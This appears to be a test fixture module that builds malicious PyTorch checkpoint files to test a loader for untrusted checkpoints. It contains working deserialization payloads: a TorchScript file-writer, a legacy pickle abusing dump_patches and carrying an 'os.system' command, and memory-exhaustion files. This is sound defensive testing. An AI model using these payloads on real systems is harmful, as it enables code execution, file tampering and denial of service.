"""The attack corpus of test_untrusted.py, built in the test's own folder (nothing downloaded). Each file is what an
attacker who has read models/checkpoints.py and models/untrusted.py would try; a payload that ran would create its
`marker` file (or a `.patch` file, for the pre-1.6 route)."""

import io
import pickle
import zipfile
from collections import OrderedDict
from typing import Tuple

import torch

from models.checkpoints import model_to_ckpt
from models.yolo import DetectionModel

LEGACY_HEADER = (torch.serialization.MAGIC_NUMBER, torch.serialization.PROTOCOL_VERSION,
                 {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}})


class FileWriter(torch.nn.Module):
    """Scripted, its `__setstate__` runs inside torch.jit.load: torch.from_file(shared=True) creates any file."""

    def __init__(self, target: str):
        super().__init__()
        self.target = target
        self.w = torch.zeros(1)

    def forward(self, x):
        return x + self.w

    @torch.jit.export
    def __getstate__(self) -> Tuple[str, bool]:
        return (self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[str, bool]) -> None:
        self.target = state[0]
        self.training = state[1]
        self.w = torch.from_file(self.target, shared=True, size=8)


def scripted_writer(path, marker):
    torch.jit.script(FileWriter(str(marker))).save(str(path))
    return path


def rezip(src, dst, rename=None, replace=None, extra=(), tail=b""):
    """A copy of the zip `src` with members renamed ({old: new}), contents replaced ({name: bytes}), extra
    (name, bytes) members added first, and `tail` bytes appended."""
    buf = io.BytesIO()
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(buf, "w") as out:
        for name, data in extra:
            out.writestr(name, data)
        for info in z.infolist():
            data = (replace or {}).get(info.filename, z.read(info))
            info.filename = (rename or {}).get(info.filename, info.filename)
            out.writestr(info, data)
    dst.write_bytes(buf.getvalue() + tail)
    return dst


def disguised(ts, folder):
    """A TorchScript archive dressed as a checkpoint: as is, with bytes appended (zipfile.is_zipfile may then say
    no), its first member renamed, and a harmless data.pkl added first."""
    first = zipfile.ZipFile(ts).namelist()[0]
    top = first.split("/")[0]
    return {
        "as .pt": rezip(ts, folder / "plain.pt"),
        "appended bytes": rezip(ts, folder / "appended.pt", tail=b"\0" * 7),
        "renamed first member": rezip(ts, folder / "renamed.pt", rename={first: f"{top}/z{first.split('/')[-1]}"}),
        "extra data.pkl": rezip(ts, folder / "extra.pt", extra=[(f"{top}/data.pkl", pickle.dumps({}, protocol=2))]),
    }


def _op_str(s):
    b = s.encode()
    return pickle.BINUNICODE + len(b).to_bytes(4, "little") + b


def legacy(main_pickle, tail=b""):
    """A pre-1.6 torch file: magic number, protocol, system info, `main_pickle`, storage keys, raw bytes."""
    head = b"".join(pickle.dumps(x, protocol=2) for x in LEGACY_HEADER)
    return head + main_pickle + pickle.dumps(["0"] if tail else [], protocol=2) + tail


def legacy_build_patch(target):
    """The pre-1.6 route of the issue: BUILD on the allowed `torch._utils._rebuild_tensor` sets `dump_patches` and
    `__name__`, then a ('module', that function, file, source) persistent id makes torch's legacy loader write
    `<__name__>.patch` with a diff of the file's choosing."""
    return legacy(
        pickle.PROTO + b"\x02" + pickle.GLOBAL + b"torch._utils\n_rebuild_tensor\n" + pickle.BINPUT + b"\x00"
        + pickle.EMPTY_DICT + pickle.MARK + _op_str("dump_patches") + pickle.NEWTRUE + _op_str("__name__")
        + _op_str(str(target)) + pickle.SETITEMS + pickle.BUILD
        + pickle.MARK + _op_str("module") + pickle.BINGET + b"\x00" + _op_str("evil.py")
        + _op_str("import os\nos.system('touch pwned')\n") + pickle.TUPLE + pickle.BINPERSID
        + pickle.TUPLE2 + pickle.STOP)


class _Claim:
    """Pickles as a persistent id: a storage of `numel` elements that the file does not hold."""

    def __init__(self, storage_type, numel, legacy):
        self.pid = ("storage", storage_type, "0", "cpu", numel, *((None,) if legacy else ()))


class _Rebuild:
    def __init__(self, claim, shape):
        self.claim, self.shape = claim, shape

    def __reduce__(self):
        stride = tuple(int(torch.tensor(self.shape[i + 1:]).prod()) for i in range(len(self.shape)))
        return torch._utils._rebuild_tensor_v2, (self.claim, 0, self.shape, stride, False, OrderedDict())


class _ClaimPickler(pickle.Pickler):
    def persistent_id(self, obj):
        return obj.pid if isinstance(obj, _Claim) else None


def _claim_pickle(obj):
    buf = io.BytesIO()
    _ClaimPickler(buf, protocol=2).dump(obj)
    return buf.getvalue()


def legacy_claim(numel):
    """A pre-1.6 file of a few hundred bytes whose one fp16 tensor claims `numel` elements (torch would allocate
    them while unpickling); the raw bytes hold one element."""
    claim = _Claim(torch.HalfStorage, numel, legacy=True)
    return legacy(_claim_pickle({"model": None, "w": _Rebuild(claim, (numel,))}),
                  tail=(1).to_bytes(8, "little") + b"\0\0")


def zip_claim(path, numel):
    """A zip checkpoint whose data.pkl claims `numel` float32 elements; its data/0 record holds 4 bytes."""
    claim = _Claim(torch.FloatStorage, numel, legacy=False)
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("archive/data.pkl", _claim_pickle({"model": None, "w": _Rebuild(claim, (numel,))}))
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/data/0", b"\0" * 4)
        z.writestr("archive/version", "3\n")
    return path


def our_checkpoint(**model_entry):
    entry = {**model_to_ckpt(DetectionModel("yolov5n.yaml", nc=3)), **model_entry}
    return {"epoch": -1, "model": entry, "ema": None, "optimizer": None}


def expanded_view(path, numel):
    """Our format, but one weight is a stride-0 view of two bytes describing `numel` elements (a conversion to fp32
    would allocate them all)."""
    ckpt = our_checkpoint()
    ckpt["model"]["state_dict"]["model.0.conv.weight"] = torch.zeros(1, dtype=torch.half).expand(numel)
    torch.save(ckpt, path)
    return path


def yaml_blowup(path):
    """Our format with a YAML scaled 64x wide and the small model's weights: building it would take gigabytes."""
    ckpt = our_checkpoint()
    ckpt["model"]["yaml"] = {**ckpt["model"]["yaml"], "width_multiple": 16.0}
    torch.save(ckpt, path)
    return path
